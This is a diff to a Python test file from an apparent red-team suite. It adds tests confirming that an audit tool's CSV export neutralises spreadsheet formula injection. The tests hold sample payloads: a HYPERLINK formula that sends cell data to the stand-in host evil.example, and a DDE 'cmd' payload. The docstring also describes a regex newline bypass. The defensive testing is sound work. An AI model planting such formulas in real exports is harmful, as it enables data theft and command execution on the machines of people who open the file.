@@ -1,5 +1,7 @@
 """Red-team item 15, the smaller items this suite closes:
 
+b. `audit replay --format csv` wrote cells starting with = + - @ (a caller chooses the case
+   id and the purpose) as spreadsheet formulas.
 d. The caller-id pattern used `^...$`, and `$` matches before a final newline: a certificate
    naming `urn:proofless:caller:<id>\\n` was a caller of its own.
 e. `case_id` and `purpose` accepted resident ID numbers and mobile numbers, which then sat in
@@ -9,6 +11,7 @@ e. `case_id` and `purpose` accepted resident ID numbers and mobile numbers, whic
 from __future__ import annotations
 
 import asyncio
+import csv
 import datetime as dt
 import io
 import json
@@ -24,6 +27,7 @@ from cryptography.hazmat.primitives import hashes, serialization
 from cryptography.hazmat.primitives.asymmetric import ec
 from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID
 
+from gateway.audit.tools import csv_cell
 from proofless.v1 import verification_pb2 as pb
 from proofless.v1 import verification_pb2_grpc as pb_grpc
 from tests.support.auditlog import run_audit_cli
@@ -65,6 +69,36 @@ async def audit_cli(*argv: str | Path) -> tuple[int, str]:
 
 def reason_of(err: grpc.aio.AioRpcError, details: Callable[..., list[Any]]) -> str:
     return next(d.reason for d in details(err) if hasattr(d, "reason"))
+
+
+# ---- b. CSV cells are never formulas ------------------------------------------------------------
+
+
+@on_module_loop
+async def test_csv_export_neutralises_formulas_a_caller_wrote(stack: Stack) -> None:
+    idn = stack.scenarios["household_head"]
+    window = await stack.verification("quangang-window")
+    case = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    await window.GetHouseholdRecord(record(idn, case=case, purpose="@SUM(1+1)*cmd|' /C calc'!A0"))
+    code, out = await audit_cli("replay", stack.config.audit.dir, "--case", case, "--format", "csv")
+    assert code == 0
+    (row,) = list(csv.DictReader(io.StringIO(out)))
+    assert row["case_id"] == "'" + case
+    assert row["purpose"].startswith("'@")
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_neutralised(start: str) -> None:
+    assert csv_cell(start + "1+1") == "'" + start + "1+1"
+    assert csv_cell([start + "x", "y"]) == "'" + start + "x;y"
+
+
+def test_plain_cells_and_numbers_are_unchanged() -> None:
+    assert csv_cell("QG-2026-000123") == "QG-2026-000123"
+    assert csv_cell(-5) == -5
+    assert csv_cell(None) is None
+    assert csv_cell(["public-security", "civil"]) == "public-security;civil"
 
 
 # ---- d. a caller id is matched whole ------------------------------------------------------------
